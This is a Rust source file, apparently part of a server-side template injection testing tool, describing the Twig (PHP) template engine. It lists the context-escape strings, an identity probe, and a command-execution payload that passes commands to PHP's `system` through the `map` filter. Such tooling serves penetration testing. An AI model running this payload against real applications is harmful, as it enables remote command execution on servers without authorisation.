//! Twig (php)
//!
//! Shares `{{…}}` delimiters with jinja2, so identity leans on php's type
//! coercion: `A*'B'` multiplies in Twig but repeats the string in jinja2.
//! Exec uses the `map('system')` callable filter; file read/write have no
//! reliable in-template payload and stay no-ops.

use crate::core::closures::{ClosureSet, ClosureTable, InjectionContext};
use crate::core::descriptor::{EngineDescriptor, EvalProbe, ExecProbe, Identity};
use crate::core::template::Template;

pub fn descriptor() -> EngineDescriptor {
    let mut closures = ClosureTable::new();
    closures.insert("quote", vec!["'", "\""]);
    closures.insert("paren", vec![")"]);
    closures.insert("bracket", vec!["]"]);

    EngineDescriptor {
        name: "twig",
        language: "php",
        render_tag: Template::new("{{{payload}}}"),
        header_tag: Template::new("{{{header}}}"),
        trailer_tag: Template::new("{{{trailer}}}"),
        contexts: vec![
            InjectionContext {
                level: 1,
                prefix: Some(Template::new("{closure}}}")),
                suffix: Some("{{1"),
                closures: vec![
                    ClosureSet {
                        level: 1,
                        specs: vec![vec![], vec!["quote"], vec!["quote", "paren"]],
                    },
                    ClosureSet {
                        level: 2,
                        specs: vec![vec!["quote", "bracket"]],
                    },
                ],
            },
            InjectionContext {
                level: 2,
                prefix: Some(Template::new("{closure}%}")),
                suffix: Some("{% set _ = 1"),
                closures: vec![ClosureSet {
                    level: 2,
                    specs: vec![vec![], vec!["quote"]],
                }],
            },
        ],
        closures,
        identity: Identity::CoercedProduct(Template::new("{{{a}*'{b}'}}")),
        eval: Some(EvalProbe {
            literal: Template::new("{{'{token}'}}"),
            language: "php",
        }),
        exec: Some(ExecProbe {
            command: Template::new("{{['{command}']|map('system')|join}}"),
        }),
        read: None,
        write: None,
    }
}
